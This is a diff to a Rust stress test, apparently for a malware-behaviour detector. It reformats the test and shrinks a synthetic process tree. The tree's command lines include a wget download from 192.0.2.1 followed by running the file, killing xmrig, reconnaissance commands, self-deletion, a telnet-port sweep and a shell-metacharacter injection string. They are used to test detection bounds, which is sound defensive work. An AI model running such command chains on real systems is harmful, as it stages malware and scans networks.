@@ -231,14 +231,25 @@ fn hostile_trees_are_bounded() {
     let behaviours = Behaviours::built_in();
     let start = std::time::Instant::now();
     let mut nodes = vec![Node { cmd_line: Some("bash"), ..Node::default() }];
-    let kinds = ["wget http://192.0.2.1/x -O /tmp/x", "/tmp/x", "pkill xmrig", "uname -a", "nproc", "free", "id", "w", "rm /tmp/x"];
-    nodes.extend((0..200_000).map(|index| Node {
+    let kinds = [
+        "wget http://192.0.2.1/x -O /tmp/x",
+        "/tmp/x",
+        "pkill xmrig",
+        "uname -a",
+        "nproc",
+        "free",
+        "id",
+        "w",
+        "rm /tmp/x",
+    ];
+    nodes.extend((0..40_000).map(|index| Node {
         // A parent that comes later, or is none at all, is a damaged log and must not matter.
         parent: [Some(0), Some(index + 5), Some(usize::MAX), None][index % 4],
         cmd_line: Some(kinds[index % kinds.len()]),
         ..Node::default()
     }));
-    let connects: Vec<String> = (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
+    let connects: Vec<String> =
+        (0..100_000).map(|n| format!("10.{}.{}.{}:23", n >> 16, n >> 8 & 255, n & 255)).collect();
     nodes[7].connects = connects.iter().map(String::as_str).collect();
     let long = "é;`$(\"'|".repeat(100_000);
     nodes[9].cmd_line = Some(&long);
@@ -247,11 +258,13 @@ fn hostile_trees_are_bounded() {
     for id in ["downloads_then_runs", "kills_rivals", "sweeps_hosts", "deletes_itself", "system_reconnaissance"] {
         let of: Vec<_> = found.iter().filter(|it| behaviours.get(it.behaviour).unwrap().id == id).collect();
         assert!((1..=MAX_FOUND).contains(&of.len()), "{id}: {}", of.len());
-        assert!(of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len())));
+        assert!(
+            of.iter().all(|it| it.nodes.len() <= MAX_EVIDENCE && it.nodes.iter().all(|node| *node < tree.nodes.len()))
+        );
     }
     let view = ProcessView { cmd_line: Some(&long), ..ProcessView::default() };
     assert!(behaviours.of_process(&view).len() < behaviours.all().len());
-    println!("200,000 nodes in {:?}", start.elapsed());
+    println!("40,000 nodes in {:?}", start.elapsed());
 }
 
 proptest::proptest! {
